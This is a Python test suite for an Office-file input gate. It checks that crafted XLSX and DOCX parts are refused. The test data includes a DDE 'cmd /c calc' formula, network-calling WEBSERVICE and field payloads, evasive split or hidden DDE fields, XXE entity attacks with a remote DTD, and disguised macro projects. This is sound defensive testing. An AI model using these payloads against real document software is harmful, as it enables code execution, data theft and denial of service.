"""Attacks in the parts of an Office file."""

from __future__ import annotations

import time
import tracemalloc
from dataclasses import replace

import pytest

from formkit.kernel.errors import InputUnreadable
from formkit.ooxml import gate
from formkit.ooxml.gate import LEDGER, TEMPLATE
from formkit.ooxml.sniff import FileKind

XLSX, DOCX = FileKind.XLSX, FileKind.DOCX
SHEET = "xl/worksheets/sheet1.xml"
SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
CORNER = (
    '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
)


def refusal(data: bytes, expect: FileKind, limits: gate.Limits = LEDGER) -> InputUnreadable:
    begun = time.process_time()
    with pytest.raises(InputUnreadable) as caught:
        gate.inspect_bytes(data, name="文件", expect=expect, limits=limits)
    assert time.process_time() - begun < 0.5
    assert "{" not in str(caught.value)
    return caught.value


def rows(forge, rows="", **around) -> bytes:
    return forge.zipped(forge.workbook({SHEET: forge.sheet(rows, **around)}))


def cell(forge, inside: str) -> bytes:
    return rows(forge, f'<row r="1"><c r="A1"{inside}</c></row>')


def defined(forge, area: str) -> bytes:
    names = (
        f'<definedNames><definedName name="_xlnm.Print_Area">{area}</definedName></definedNames>'
    )
    return forge.zipped(
        forge.workbook({"xl/workbook.xml": forge.workbook_part("台账", after=names)})
    )


def comment(forge, reference: str) -> bytes:
    part = f'<comments xmlns="{forge.MAIN}"><commentList><comment ref="{reference}"/></commentList></comments>'
    return forge.zipped(forge.workbook({"xl/comments1.xml": part.encode()}))


def beside(forge, name: str, data: bytes) -> bytes:
    return forge.zipped(forge.workbook({name: data}))


def linked(
    forge, kind: str, target: str = "http://198.51.100.7/x", part: str = SHEET_RELS
) -> bytes:
    return beside(forge, part, forge.relationships((kind, target), external=True))


def text(forge, body: str, part: str = "document", **more) -> bytes:
    name = "word/document.xml" if part == "document" else f"word/{part}1.xml"
    return forge.zipped(forge.document({name: forge.document_part(body, part), **more}))


def outside(forge, kind: str, target: str = "file:///C:/x", **more) -> bytes:
    rels = forge.relationships((kind, target), external=True)
    return forge.zipped(forge.document({DOCUMENT_RELS: rels, **more}))


def field(instruction: str, *, element: str = "instrText") -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:{element}>{instruction}</w:{element}></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


SPLIT_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
    "<w:r><w:instrText>EAU</w:instrText></w:r><w:r><w:instrText>TO c:\\x</w:instrText></w:r>"
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
COMPUTED_FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    + field("QUOTE 68 68 69")
    + '<w:r><w:instrText> "c:\\x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
UNCLOSED_FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT x</w:instrText></w:r></w:p>'

ATTACKS = {
    # geometry of the sheet
    "a cell in the last corner": ("FK-IN-026", XLSX, lambda f: rows(f, CORNER)),
    "a row that does not exist": ("FK-IN-025", XLSX, lambda f: rows(f, '<row r="99999999"/>')),
    "row 0": ("FK-IN-025", XLSX, lambda f: rows(f, '<row r="0"/>')),
    "row -1": ("FK-IN-025", XLSX, lambda f: rows(f, '<row r="-1"/>')),
    "a row with a number beyond all measure": (
        "FK-IN-025",
        XLSX,
        lambda f: rows(f, f'<row r="{"9" * 5000}"/>'),
    ),
    "a column that does not exist": (
        "FK-IN-025",
        XLSX,
        lambda f: rows(f, '<row r="1"><c r="XFE1"><v>1</v></c></row>'),
    ),
    "a column of many letters": (
        "FK-IN-025",
        XLSX,
        lambda f: rows(f, '<row r="1"><c r="ZZZZZZZZ1"><v>1</v></c></row>'),
    ),
    "a cell without a row": ("FK-IN-025", XLSX, lambda f: rows(f, '<row r="1"><c r="A"/></row>')),
    "a cell without a column": ("FK-IN-025", XLSX, lambda f: rows(f, '<row r="1"><c r="1"/></row>')),
    "a cell outside every row": ("FK-IN-025", XLSX, lambda f: rows(f, "<c><v>1</v></c>")),
    "a cell in the wrong row": ("FK-IN-047", XLSX, lambda f: rows(f, '<row r="1"><c r="A2"/></row>')),
    "more cells than columns": (
        "FK-IN-025",
        XLSX,
        lambda f: rows(f, f'<row r="1">{"<c/>" * 16_385}</row>'),
    ),
    "more rows than the grid": (
        "FK-IN-025",
        XLSX,
        lambda f: rows(f, '<row r="1048576"/><row><c><v>1</v></c></row>'),
    ),
    "one address twice": (
        "FK-IN-046",
        XLSX,
        lambda f: rows(f, '<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>'),
    ),
    "one row twice": ("FK-IN-046", XLSX, lambda f: rows(f, '<row r="5"/><row r="5"/>')),
    "a merge of the whole sheet": (
        "FK-IN-027",
        XLSX,
        lambda f: rows(f, after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    ),
    "six merges of whole columns": (
        "FK-IN-027",
        XLSX,
        lambda f: rows(
            f, after=f"<mergeCells>{merges(f'{c}1:{c}1048576' for c in 'ABCDEF')}</mergeCells>"
        ),
    ),
    "a merge outside the grid": (
        "FK-IN-025",
        XLSX,
        lambda f: rows(f, after='<mergeCells><mergeCell ref="A1:XFE2"/></mergeCells>'),
    ),
    "a merge that is no area": (
        "FK-IN-025",
        XLSX,
        lambda f: rows(f, after='<mergeCells><mergeCell ref="合并"/></mergeCells>'),
    ),
    "a merge in the last corner": (
        "FK-IN-029",
        XLSX,
        lambda f: rows(f, after='<mergeCells><mergeCell ref="XFC1048575:XFD1048576"/></mergeCells>'),
    ),
    "a link over the whole sheet": (
        "FK-IN-027",
        XLSX,
        lambda f: rows(f, after='<hyperlinks><hyperlink ref="A1:XFD1048576"/></hyperlinks>'),
    ),
    "a link in the last corner": (
        "FK-IN-029",
        XLSX,
        lambda f: rows(f, after='<hyperlinks><hyperlink ref="XFD1048576"/></hyperlinks>'),
    ),
    "a validation in the last corner": (
        "FK-IN-029",
        XLSX,
        lambda f: rows(
            f, after='<dataValidations><dataValidation sqref="A1 XFD1048576"/></dataValidations>'
        ),
    ),
    "a validation outside the grid": (
        "FK-IN-025",
        XLSX,
        lambda f: rows(
            f, after='<dataValidations><dataValidation sqref="A0:B9999999"/></dataValidations>'
        ),
    ),
    "a format outside the grid": (
        "FK-IN-025",
        XLSX,
        lambda f: rows(f, after='<conditionalFormatting sqref="A1:A9999999"/>'),
    ),
    "a dimension outside the grid": (
        "FK-IN-025",
        XLSX,
        lambda f: rows(f, before='<dimension ref="A1:XFD99999999"/>'),
    ),
    "a comment in the last corner": ("FK-IN-029", XLSX, lambda f: comment(f, "XFD1048576")),
    "a comment nowhere": ("FK-IN-025", XLSX, lambda f: comment(f, "")),
    "a print area in the last corner": (
        "FK-IN-029",
        XLSX,
        lambda f: defined(f, "台账!$A$1:$B$2,台账!$XFD$1048576"),
    ),
    "a print area outside the grid": ("FK-IN-025", XLSX, lambda f: defined(f, "台账!$A$1:$XFE$9")),
    "texts that are not there": (
        "FK-IN-028",
        XLSX,
        lambda f: beside(
            f, "xl/sharedStrings.xml", f.shared_strings("序号", attributes='uniqueCount="4294967295"')
        ),
    ),
    # values that make libraries stumble
    "a text that does not exist": ("FK-IN-044", XLSX, lambda f: cell(f, ' t="s"><v>99</v>')),
    "a text with a negative number": ("FK-IN-045", XLSX, lambda f: cell(f, ' t="s"><v>-1</v>')),
    "letters for a number": ("FK-IN-045", XLSX, lambda f: cell(f, "><v>abc</v>")),
    "an endless number": ("FK-IN-045", XLSX, lambda f: cell(f, "><v>1e999</v>")),
    "not a number": ("FK-IN-045", XLSX, lambda f: cell(f, "><v>NaN</v>")),
    "a number of Python": ("FK-IN-045", XLSX, lambda f: cell(f, "><v>1_000</v>")),
    # links out of a workbook
    "an external workbook": ("FK-IN-030", XLSX, lambda f: linked(f, "externalLinkPath")),
    "an external picture": ("FK-IN-030", XLSX, lambda f: linked(f, "image")),
    "a linked object": ("FK-IN-032", XLSX, lambda f: linked(f, "oleObject")),
    "a link that is spelt otherwise": (
        "FK-IN-030",
        XLSX,
        lambda f: beside(
            f,
            SHEET_RELS,
            f.relationships(("image", "x"), external=True).replace(b"External", b" eXternal "),
        ),
    ),
    "a DDE link": (
        "FK-IN-032",
        XLSX,
        lambda f: beside(
            f,
            "xl/externalLinks/externalLink1.xml",
            f'<externalLink xmlns="{f.MAIN}"><ddeLink ddeService="cmd"/></externalLink>'.encode(),
        ),
    ),
    "an object linked in the sheet": (
        "FK-IN-032",
        XLSX,
        lambda f: rows(f, after='<oleObjects><oleObject link="[1]!A"/></oleObjects>'),
    ),
    "a DDE formula": ("FK-IN-032", XLSX, lambda f: cell(f, "><f>cmd|'/c calc'!A0</f><v>0</v>")),
    "a DDE function": ("FK-IN-032", XLSX, lambda f: cell(f, '><f>DDE("a";"b")</f><v>0</v>')),
    "a formula that asks the network": (
        "FK-IN-032",
        XLSX,
        lambda f: cell(f, '><f>1+_xlfn.WEBSERVICE("http://198.51.100.7/")</f><v>0</v>'),
    ),
    # links out of a document
    "an external template": (
        "FK-IN-031",
        DOCX,
        lambda f: outside(f, "attachedTemplate"),
    ),
    "an external picture in Word": ("FK-IN-030", DOCX, lambda f: outside(f, "image")),
    "an external subdocument": ("FK-IN-030", DOCX, lambda f: outside(f, "subDocument")),
    "an external frame": ("FK-IN-030", DOCX, lambda f: outside(f, "frame")),
    "a mail merge source": ("FK-IN-030", DOCX, lambda f: outside(f, "mailMergeSource")),
    "a converted file": ("FK-IN-030", DOCX, lambda f: outside(f, "aFChunk")),
    "an object linked in Word": ("FK-IN-032", DOCX, lambda f: outside(f, "oleObject")),
    "a relationship of no known type": (
        "FK-IN-030",
        DOCX,
        lambda f: outside(f, "http://example.invalid/anything"),
    ),
    "a picture linked through a hyperlink": (
        "FK-IN-030",
        DOCX,
        lambda f: outside(
            f,
            "hyperlink",
            **{"word/document.xml": f.document_part('<w:p><w:r><a:blip r:link="rId1"/></w:r></w:p>')},
        ),
    ),
    "an old picture with an address": (
        "FK-IN-030",
        DOCX,
        lambda f: text(f, '<w:p><w:r><w:pict><v:imagedata src="file:///x.png"/></w:pict></w:r></w:p>'),
    ),
    "an object of type Link": (
        "FK-IN-032",
        DOCX,
        lambda f: text(f, '<w:p><w:r><w:object><o:OLEObject Type="Link"/></w:object></w:r></w:p>'),
    ),
    "a chunk to convert": ("FK-IN-030", DOCX, lambda f: text(f, '<w:altChunk r:id="rId1"/>')),
    # fields that fetch
    **{
        f"the field {name}": ("FK-IN-033", DOCX, lambda f, n=name: text(f, field(f" {n} x y ")))
        for name in (
            "DDE", "DDEAUTO", "INCLUDETEXT", "INCLUDEPICTURE", "LINK", "IMPORT", "DATABASE", "RD",
        )
    },
    "a field in small letters": ("FK-IN-033", DOCX, lambda f: text(f, field("includePicture x"))),
    "a field in quotes": ("FK-IN-033", DOCX, lambda f: text(f, field(' "DDE" x'))),
    "a field far behind blanks": ("FK-IN-033", DOCX, lambda f: text(f, field(" " * 9_000 + "DDE x"))),
    "a simple field": (
        "FK-IN-033",
        DOCX,
        lambda f: text(f, '<w:p><w:fldSimple w:instr="DDEAUTO x"/></w:p>'),
    ),
    "a field cut into pieces": ("FK-IN-033", DOCX, lambda f: text(f, SPLIT_FIELD)),
    "a field whose name is computed": ("FK-IN-033", DOCX, lambda f: text(f, COMPUTED_FIELD)),
    "a field that never ends": ("FK-IN-033", DOCX, lambda f: text(f, UNCLOSED_FIELD)),
    "a deleted field": (
        "FK-IN-033",
        DOCX,
        lambda f: text(f, field("LINK x", element="delInstrText")),
    ),
    "a field in a header": ("FK-IN-033", DOCX, lambda f: text(f, field("DDE x"), "hdr")),
    "a field in a footnote": ("FK-IN-033", DOCX, lambda f: text(f, field("DDE x"), "footnotes")),
    "a table cell over a hundred million columns": (
        "FK-IN-039",
        DOCX,
        lambda f: text(f, '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr></w:tc></w:tr></w:tbl>'),
    ),
    "a table cell over 9,999 columns": (
        "FK-IN-039",
        DOCX,
        lambda f: text(f, '<w:gridBefore w:val="9999"/>'),
    ),
    "a table cell over no number of columns": (
        "FK-IN-039",
        DOCX,
        lambda f: text(f, '<w:gridAfter w:val="-1"/>'),
    ),
    # macros
    "a macro project": ("FK-IN-008", XLSX, lambda f: beside(f, "xl/vbaProject.bin", b"x")),
    "a macro project in Word": (
        "FK-IN-008",
        DOCX,
        lambda f: f.zipped(f.document({"word/VBAPROJECT.bin": b"x"})),
    ),
    "macro data in Word": (
        "FK-IN-008",
        DOCX,
        lambda f: f.zipped(f.document({"word/vbaData.xml": b"<x/>"})),
    ),
    "a macro project under another name": (
        "FK-IN-008",
        XLSX,
        lambda f: beside(
            f,
            "xl/_rels/workbook.xml.rels",
            f.relationships(
                ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.dat")
            ),
        ),
    ),
    "macros inside an embedded object": (
        "FK-IN-008",
        XLSX,
        lambda f: beside(f, "xl/embeddings/oleObject1.bin", f.compound("_VBA_PROJECT")),
    ),
    "a macro sheet": (
        "FK-IN-008",
        XLSX,
        lambda f: beside(f, "xl/macrosheets/sheet1.xml", f.sheet()),
    ),
    "a macro sheet under another name": (
        "FK-IN-008",
        XLSX,
        lambda f: beside(
            f,
            SHEET,
            b'<m:macrosheet xmlns:m="http://schemas.microsoft.com/office/excel/2006/main"/>',
        ),
    ),
    "a macro workbook that calls itself xlsx": (
        "FK-IN-008",
        XLSX,
        lambda f: beside(
            f,
            "[Content_Types].xml",
            f.content_types(
                xl__workbook="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                docs=f.XLSX_MAIN,
            ),
        ),
    ),
    # the strict class
    "a strict workbook": (
        "FK-IN-034",
        XLSX,
        lambda f: beside(
            f,
            "_rels/.rels",
            f.relationships(
                ("http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument", "xl/workbook.xml")
            ),
        ),
    ),
    "a sheet of the strict class": (
        "FK-IN-034",
        XLSX,
        lambda f: beside(
            f, SHEET, f.sheet().replace(f.MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main")
        ),
    ),
    # parts that are missing or twice
    "no content types": ("FK-IN-011", XLSX, lambda f: beside(f, "[Content_Types].xml", None)),
    "content types that are none": ("FK-IN-035", XLSX, lambda f: beside(f, "[Content_Types].xml", b"<x/>")),
    "no relationships": ("FK-IN-035", XLSX, lambda f: beside(f, "_rels/.rels", None)),
    "relationships without a main part": (
        "FK-IN-035",
        XLSX,
        lambda f: beside(f, "_rels/.rels", f.relationships(("image", "x"))),
    ),
    "no main part": ("FK-IN-035", XLSX, lambda f: beside(f, "xl/workbook.xml", None)),
    "a main part that is a sheet": ("FK-IN-035", XLSX, lambda f: beside(f, "xl/workbook.xml", f.sheet())),
    "a main part of no known type": (
        "FK-IN-005",
        XLSX,
        lambda f: beside(f, "[Content_Types].xml", f.content_types()),
    ),
    "no relationships of the workbook": (
        "FK-IN-036",
        XLSX,
        lambda f: beside(f, "xl/_rels/workbook.xml.rels", None),
    ),
    "no sheet": ("FK-IN-036", XLSX, lambda f: beside(f, SHEET, None)),
    "no sheet in the list": (
        "FK-IN-036",
        XLSX,
        lambda f: beside(f, "xl/workbook.xml", f.workbook_part()),
    ),
    "a sheet that is a picture": (
        "FK-IN-036",
        XLSX,
        lambda f: f.zipped(
            f.workbook(
                {
                    SHEET: None,
                    "xl/worksheets/sheet1.png": b"\x89PNG",
                    "xl/_rels/workbook.xml.rels": f.relationships(
                        ("worksheet", "worksheets/sheet1.png")
                    ),
                }
            )
        ),
    ),
    "a sheet hidden in a part of another ending": (
        "FK-IN-026",
        XLSX,
        lambda f: beside(f, "xl/worksheets/other.dat", f.sheet(CORNER)),
    ),
    "a second workbook part": (
        "FK-IN-043",
        XLSX,
        lambda f: beside(f, "xl/workbook2.xml", f.workbook_part("别的")),
    ),
    "a second list of texts": (
        "FK-IN-043",
        XLSX,
        lambda f: beside(f, "xl/sharedStrings2.xml", f.shared_strings("别的")),
    ),
    # XML that is none
    "a part that breaks off": ("FK-IN-024", XLSX, lambda f: beside(f, SHEET, f.sheet()[:-5])),
    "an empty part": ("FK-IN-024", XLSX, lambda f: beside(f, SHEET, b"")),
    "a part with text in front": ("FK-IN-024", XLSX, lambda f: beside(f, SHEET, b"x" + f.sheet())),
    "a name without a namespace": ("FK-IN-024", XLSX, lambda f: beside(f, SHEET, b"<x:worksheet/>")),
    "an encoding nobody knows": (
        "FK-IN-024",
        XLSX,
        lambda f: beside(f, SHEET, b'<?xml version="1.0" encoding="utf-7"?>' + f.sheet()),
    ),
    "an encoding of many bytes": (
        "FK-IN-024",
        XLSX,
        lambda f: beside(f, SHEET, b'<?xml version="1.0" encoding="gb18030"?>' + f.sheet()),
    ),
    "a broken UTF-8": ("FK-IN-024", XLSX, lambda f: beside(f, "xl/sharedStrings.xml", b"<sst>\xff</sst>")),
    "a control character": ("FK-IN-024", DOCX, lambda f: text(f, "<w:p>&#0;</w:p>")),
    "a tower of elements": (
        "FK-IN-039",
        DOCX,
        lambda f: text(f, "<w:sdt>" * 300 + "</w:sdt>" * 300),
    ),
    "a tower in a sheet": ("FK-IN-039", XLSX, lambda f: rows(f, "<x>" * 5000 + "</x>" * 5000)),
}  # fmt: skip


def merges(areas) -> str:
    return "".join(f'<mergeCell ref="{area}"/>' for area in areas)


@pytest.mark.parametrize("case", ATTACKS)
def test_a_hostile_or_broken_part_is_refused(case, forge):
    code, expect, build = ATTACKS[case]
    assert refusal(build(forge), expect).code == code


def test_refusing_all_of_them_takes_little_memory(forge):
    built = [(build(forge), expect) for _, expect, build in ATTACKS.values()]
    tracemalloc.start()
    try:
        for data, expect in built:
            with pytest.raises(InputUnreadable):
                gate.inspect_bytes(data, name="文件", expect=expect)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 50_000_000


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DECLARATIONS = {
    "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
    "quadratic": f'<!DOCTYPE x [<!ENTITY q "{"x" * 50_000}">]>',
    "a local file": '<!DOCTYPE x [<!ENTITY e SYSTEM "CANARY">]>',
    "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://198.51.100.7/x.dtd"> %p;]>',
    "a plain DTD": '<!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd">',
}
PARTS = {
    "[Content_Types].xml": XLSX,
    "_rels/.rels": XLSX,
    "xl/workbook.xml": XLSX,
    SHEET: XLSX,
    "xl/sharedStrings.xml": XLSX,
    "docProps/core.xml": XLSX,
    "xl/drawings/drawing1.xml": XLSX,
    "xl/drawings/vmlDrawing1.vml": XLSX,
    "customXml/item1.dat": XLSX,
    "word/document.xml": DOCX,
    "word/header1.xml": DOCX,
}
ENCODINGS = {
    "utf-8": lambda text: text.encode(),
    "utf-8 with a mark": lambda text: text.encode("utf-8-sig"),
    "utf-16": lambda text: text.replace("UTF-8", "UTF-16").encode("utf-16"),
}


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize("declaration", DECLARATIONS)
def test_no_part_may_declare_a_document_type(declaration, part, encoding, forge, tmp_path):
    canary = tmp_path / "canary.txt"
    canary.write_text("金丝雀", encoding="utf-8")
    dtd = DECLARATIONS[declaration].replace("CANARY", canary.as_uri())
    expect = PARTS[part]
    parts = forge.workbook() if expect is XLSX else forge.document()
    inner = parts.get(part, b"<x/>").decode()
    parts[part] = ENCODINGS[encoding](f'<?xml version="1.0" encoding="UTF-8"?>{dtd}{inner}')
    refused = refusal(forge.zipped(parts), expect)
    assert refused.code == "FK-IN-023"
    assert "金丝雀" not in str(refused)


def test_a_drawing_of_old_excel_may_be_sloppy_but_not_declare_anything(forge):
    sloppy = b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><br></v:shape></xml>'
    name = "xl/drawings/vmlDrawing1.vml"
    gate.inspect_bytes(beside(forge, name, sloppy), name="文件", expect=XLSX)
    hostile = sloppy + b"<!DOCTYPE x>"
    assert refusal(beside(forge, name, hostile), XLSX).code == "FK-IN-023"
    linked = sloppy.replace(b"<br>", b'<v:imagedata src="file:///x"/>')
    assert refusal(beside(forge, name, linked), XLSX).code == "FK-IN-030"


ACCEPTED = {
    "a hyperlink": (XLSX, lambda f: linked(f, "hyperlink", "https://www.example.com/a")),
    "a hyperlink in Word": (DOCX, lambda f: outside(f, "hyperlink", "mailto:a@example.com")),
    "a validation of a whole column": (
        XLSX,
        lambda f: rows(f, after='<dataValidations><dataValidation sqref="Z2:Z1048576"/></dataValidations>'),
    ),
    "a format of the whole sheet": (
        XLSX,
        lambda f: rows(f, after='<conditionalFormatting sqref="A1:XFD1048576"/>'),
    ),
    "a dimension of the whole sheet": (
        XLSX,
        lambda f: rows(f, before='<dimension ref="A1:XFD1048576"/>'),
    ),
    "print areas": (XLSX, lambda f: defined(f, "台账!$A:$H,'别 的'!$A$1:$H$40")),
    "a print area that was lost": (XLSX, lambda f: defined(f, "#REF!")),
    "an empty formatted cell far below": (
        XLSX,
        lambda f: rows(f, '<row r="1048576"><c r="XFD1048576" s="1"/></row>'),
    ),
    "cells without addresses": (XLSX, lambda f: rows(f, "<row><c><v>1</v></c><c><v>2</v></c></row>")),
    "rows without numbers": (XLSX, lambda f: rows(f, '<row><c r="B7"><v>1</v></c></row>')),
    "a formula with a bar in a text": (
        XLSX,
        lambda f: cell(f, """ t="str"><f>"请 CALL(我)|"&amp;'a|b'!A1</f><v>x</v>"""),
    ),
    "fields that fetch nothing": (
        DOCX,
        lambda f: text(f, field("PAGE") + field(' HYPERLINK "https://www.example.com/DDE"')),
    ),
    "a field in the result of another": (
        DOCX,
        lambda f: text(f, field("TOC").replace("<w:t>1</w:t>", "<w:t>1</w:t></w:r>" + field("PAGE")[5:-6] + "<w:r>")),
    ),
    "field marks out of order": (
        DOCX,
        lambda f: text(f, '<w:p><w:r><w:fldChar w:fldCharType="end"/><w:fldChar/></w:r></w:p>'),
    ),
    "a wide table": (DOCX, lambda f: text(f, '<w:gridSpan w:val="63"/>')),
    "an embedded web page": (
        XLSX,
        lambda f: beside(f, "xl/embeddings/a.html", b"<!DOCTYPE html><br>"),
    ),
    "an embedded object without macros": (
        XLSX,
        lambda f: beside(f, "xl/embeddings/oleObject1.bin", f.compound("Contents")),
    ),
    "absolute targets": (
        XLSX,
        lambda f: beside(f, "_rels/.rels", f.relationships(("officeDocument", "/xl/./workbook.xml"))),
    ),
    "targets with other letters and backslashes": (
        XLSX,
        lambda f: beside(
            f,
            "xl/_rels/workbook.xml.rels",
            f.relationships(("worksheet", r"..\XL\Worksheets\Sheet1.xml"), ("sharedStrings", "sharedStrings.xml")),
        ),
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", ACCEPTED)
def test_what_ordinary_files_hold_passes(case, forge):
    expect, build = ACCEPTED[case]
    limits = LEDGER if "embedded" in case else TEMPLATE
    assert (
        gate.inspect_bytes(build(forge), name="文件", expect=expect, limits=limits).kind is expect
    )


def test_a_refusal_names_sheet_and_cell(forge):
    parts = forge.workbook(
        {
            "xl/workbook.xml": forge.workbook_part("台账", "附表"),
            "xl/_rels/workbook.xml.rels": forge.relationships(
                ("worksheet", "worksheets/sheet1.xml"),
                ("worksheet", "worksheets/sheet2.xml"),
                ("sharedStrings", "sharedStrings.xml"),
            ),
            "xl/worksheets/sheet2.xml": forge.sheet(CORNER),
        }
    )
    place = refusal(forge.zipped(parts), XLSX).place
    assert str(place) == "文件〔附表〕!XFD1048576"


def test_more_doubtful_cells_than_a_person_can_look_at_are_refused(forge):
    errors = "".join(f'<row r="{n}"><c r="A{n}" t="e"><v>#N/A</v></c></row>' for n in range(1, 12))
    few = replace(LEDGER, doubtful_cells=10)
    assert refusal(rows(forge, errors), XLSX, few).code == "FK-IN-042"


def test_the_attacks_are_many_and_of_many_kinds():
    codes = {code for code, _, _ in ATTACKS.values()}
    assert len(ATTACKS) >= 60
    assert len(codes) >= 12
